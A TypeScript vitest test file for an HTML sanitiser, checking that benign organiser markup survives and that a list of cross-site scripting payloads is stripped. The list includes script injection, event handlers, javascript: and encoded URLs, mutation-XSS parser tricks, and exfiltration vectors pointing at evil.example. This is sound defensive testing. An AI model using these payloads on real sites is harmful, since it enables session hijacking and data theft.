import { expect, test } from 'vitest'
import { sanitisedHtml } from './sanitised-html.ts'

test('what an organiser writes stays: headings, lists, tables, links', () => {
  const html =
    '<h2>Правила</h2><p>Один <strong>раз</strong>, див. <a href="https://example.org/a?b=1">тут</a></p>' +
    '<ul><li>цифри</li></ul><table><tbody><tr><td colspan="2">1</td></tr></tbody></table>'
  expect(sanitisedHtml(html)).toBe(html)
  const mail = '<a href="mailto:help@example.org">пошта</a>'
  expect(sanitisedHtml(mail)).toBe(mail)
})

test.each([
  '<script>steal()</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<img src=x onerror=steal()>',
  '<svg onload=steal()><animate onbegin=steal()></svg>',
  '<svg><script>steal()</script></svg>',
  '<a href="javascript:steal()">тут</a>',
  '<a href=" java\tscript:steal()">тут</a>',
  '<a href="&#106;avascript:steal()">тут</a>',
  '<a href="data:text/html,<script>steal()</script>">тут</a>',
  '<a href="vbscript:steal()">тут</a>',
  '<a href="//evil.example">тут</a>',
  '<p onclick="steal()" style="background:url(//evil.example)">x</p>',
  '<base href="//evil.example">',
  '<form action="//evil.example"><input name=card></form>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<iframe srcdoc="<script>steal()</script>"></iframe>',
  '<object data="//evil.example"></object><embed src="//evil.example">',
  '<link rel=stylesheet href=//evil.example>',
  '<style>@import "//evil.example"</style>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steal()&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=steal()>">',
  '<!--><img src=x onerror=steal()>-->',
  '<textarea><img src=x onerror=steal()></textarea>',
])('nothing that runs or reaches out survives: %s', (html) => {
  const clean = sanitisedHtml(html)
  expect(clean).not.toMatch(/<(?!\/?(a|p|table|tbody|tr|td|span)\b)/i)
  expect(clean).not.toMatch(/<[^>]*\s(?!href="https:|colspan|rowspan|scope)[\w-]+=/i)
  expect(clean).not.toMatch(/<[^>]*(javascript|vbscript|data|evil)/i)
})

test('cleaning twice changes nothing more', () => {
  const once = sanitisedHtml('<p title="<b>">1 &lt; 2 &amp; <em>x</p><td>loose</td>')
  expect(sanitisedHtml(once)).toBe(once)
})
